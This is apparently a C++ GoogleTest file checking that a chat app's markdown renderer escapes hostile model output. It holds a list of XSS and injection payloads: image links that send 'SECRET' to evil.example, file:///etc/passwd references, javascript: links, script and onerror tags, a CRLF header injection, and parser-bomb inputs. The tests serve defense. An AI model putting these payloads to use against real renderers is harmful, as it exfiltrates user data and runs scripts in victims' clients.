// What a hostile model may write: nothing of it becomes a tag, a resource or an address that we did not make.
#include <gtest/gtest.h>

#include <set>

#include "app/chat/inline_spans.h"
#include "app/chat/link_target.h"
#include "app/chat/markdown_splitter.h"
#include "app/chat/styled_text.h"
#include "app/chat/table_model.h"

namespace snug::chat {
namespace {

const std::vector<std::string> kPayloads{
    // images
    "![x](http://evil.example/?q=SECRET)", "![x](https://evil.example/a.png \"title\")", "![](//evil.example/x)",
    "![x](file:///etc/passwd)", "![x](qrc:/../../x)", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)", "![x](\\\\evil\\share\\x.png)", "![x](image://provider/x)",
    "![x][1]\n\n[1]: http://evil.example/x", "![1]\n[1]: <http://evil.example/x>",
    "![a](http://e.example/\"onerror=\"x)", "[![x](http://evil.example/i)](http://evil.example/l)",
    "![![![x](http://a.b)](http://c.d)](http://e.f)", "![x](<http://evil.example/a b>)",
    "![x](http://evil.example/<img src=x>)",
    // raw HTML
    "<img src=http://evil.example/x>", "<IMG SRC=\"http://evil.example/x\" onerror=alert(1)>",
    "<img/src='http://evil.example'>", "<script>alert(1)</script>",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<style>@import url(http://evil.example)</style>",
    "<iframe src=http://evil.example></iframe>", "<a href=\"javascript:alert(1)\">x</a>",
    "<object data=file:///etc/passwd></object>", "<svg><image href=http://evil.example/></svg>",
    "<body background=http://evil.example/x>", "<table background=\"http://evil.example/x\"><tr><td>",
    "<p style=\"background-image:url(http://evil.example)\">",
    "<meta http-equiv=refresh content=0;url=http://evil.example>", "<!-- <img src=http://evil.example> -->",
    "<![CDATA[<img src=x>]]>", "<?php x ?>", "<!DOCTYPE html>", "<font color=red>", "<b>bold</b>", "&lt;img src=x&gt;",
    "&#60;img src=x&#62;", "&#x3c;script&#x3e;", "<\x00img src=x>", "< img src=x>",
    "<video poster=http://evil.example>", "<input type=image src=http://evil.example>",
    "<base href=http://evil.example>",
    // links
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](\tjavascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](qrc:/x)",
    "[x](smb://evil/share)", "[x](http://a\" onclick=\"x)", "[x](http://a'><img src=x>)", "<javascript:alert(1)>",
    "<data:text/html,x>", "[x]: javascript:alert(1)\n\n[x]", "[a]: <javascript:x>\n[a]",
    "[x](http://e.example/\xE2\x80\xAE"
    "gnp.exe)",
    "[https://google.com](https://evil.example)", "[x](<javascript:alert(1)>)",
    "[x](http://e.example \"a\\\" onload=\\\"x\")", "<https://e.example/<script>>",
    "javascript:alert(1) www.evil.example",
    // in other places
    "| a | <img src=x> |\n|---|---|\n| ![x](http://evil.example) | [y](javascript:x) |",
    "# ![x](http://evil.example/h)", "- ![x](http://evil.example/l)\n- <img src=x>", "> <img src=x>\n> ![x](file:///x)",
    "**![x](http://evil.example)**", "`<img src=x>`", "$<img src=x>$", "$$\n<img src=http://evil.example>\n$$",
    "\\(\\href{javascript:alert(1)}{x}\\)", "\\(\\includegraphics{http://evil.example}\\)", "$\\text{<img src=x>}$",
    "```html\n<img src=x>\n```", "<think><img src=x></think>", "[x](http://e.example/)\"><img src=x>",
    "\xF4\x8F\xBC\x80<img src=x>", "![\xF4\x8F\xBC\x81](http://e.example/$x$)", "[a](http://e.example/$<img src=x>$)",
    "~~<s><img src=x>~~", "a\\\n<img src=x>", "\xff<img src=x>\xfe", "![x](http://evil.example/\r\nHost: y)"};

/// Walks our own markup: known tags only, attributes only where we write them, everything else escaped.
void expect_safe_markup(const std::string& markup) {
  static const std::set<std::string> kTags{"b", "i", "s", "code", "a", "sub", "sup", "br"};
  for (size_t at = 0; (at = markup.find_first_of("<&", at)) != std::string::npos; ++at) {
    if (markup[at] == '&') {
      const std::string entity = markup.substr(at, markup.find(';', at) - at + 1);
      EXPECT_TRUE((std::set<std::string>{"&amp;", "&lt;", "&gt;", "&quot;", "&#39;", "&nbsp;"}.contains(entity)))
          << markup;
      continue;
    }
    const size_t end = markup.find('>', at);
    ASSERT_NE(end, std::string::npos) << markup;
    std::string tag = markup.substr(at + 1, end - at - 1);
    if (tag.starts_with("/")) tag.erase(0, 1);
    if (tag.starts_with("a href=\"")) {
      const std::string href = tag.substr(8, tag.size() - 9);
      EXPECT_EQ(href.find('"'), std::string::npos) << markup;
      EXPECT_TRUE(href.starts_with("http://") || href.starts_with("https://") || href.starts_with("mailto:")) << markup;
      EXPECT_TRUE(tag.ends_with('"')) << markup;
      tag = "a";
    }
    EXPECT_TRUE(kTags.contains(tag)) << tag << " in " << markup;
    at = end;
  }
}

void expect_safe_spans(const std::vector<Span>& spans) {
  for (const Span& span : spans) {
    if (span.target.empty()) continue;
    EXPECT_NE(span.style & (kLink | kImage), 0);
    EXPECT_TRUE(link_target(span.target)) << span.target;
    EXPECT_EQ(span.target.find_first_of("\r\n\t "), std::string::npos) << span.target;
  }
  expect_safe_markup(to_styled_text(spans));
}

void expect_safe(const std::string& payload, size_t piece) {
  MarkdownSplitter splitter;
  for (size_t at = 0; at < payload.size(); at += piece) {
    splitter.append(std::string_view(payload).substr(at, piece));
    // Also what is shown half-way.
    if (!splitter.blocks().empty()) expect_safe_spans(inline_spans(splitter.blocks().back().source));
  }
  splitter.finish();
  for (const Block& block : splitter.blocks()) {
    expect_safe_spans(inline_spans(block.source));
    if (block.kind != BlockKind::table) continue;
    TableModel table;
    table.update(block);
    for (const auto& cell : table.header()) expect_safe_spans(cell);
    for (const auto& row : table.rows()) {
      for (const auto& cell : row) expect_safe_spans(cell);
    }
  }
}

TEST(MarkdownSafety, NoPayloadBecomesMarkup) {
  ASSERT_GE(kPayloads.size(), 60u);
  for (const std::string& payload : kPayloads) {
    SCOPED_TRACE(payload);
    for (const size_t piece : {1u, 2u, 7u, 100'000u}) expect_safe(payload, piece);
  }
}

TEST(MarkdownSafety, NoPairOfPayloadsDoes) {
  for (size_t i = 0; i < kPayloads.size(); i += 3) {
    for (size_t k = 1; k < kPayloads.size(); k += 5) expect_safe(kPayloads[i] + kPayloads[k] + kPayloads[i], 100'000);
  }
}

/// The parser's known quadratic inputs, at a size where unbounded work would take minutes.
TEST(MarkdownSafety, ParserBombsEndSoon) {
  const auto repeat = [](std::string_view piece) {
    std::string out;
    while (out.size() < 200'000) out += piece;
    return out;
  };
  for (const std::string_view piece : {"](\n", "[", "*", "**a", "_a*", "`a``", "<![CDATA[", "![", "[a](", "~~", "$",
                                       "$a", "\\(", "&", "<a", "*a_ ", "[](", "\\"}) {
    MarkdownSplitter splitter;
    splitter.append(repeat(piece));
    splitter.finish();
    size_t text = 0;
    for (const Block& block : splitter.blocks()) text += plain_text(inline_spans(block.source)).size();
    EXPECT_LE(text, 500'000u) << piece;
  }
}

}  // namespace
}  // namespace snug::chat
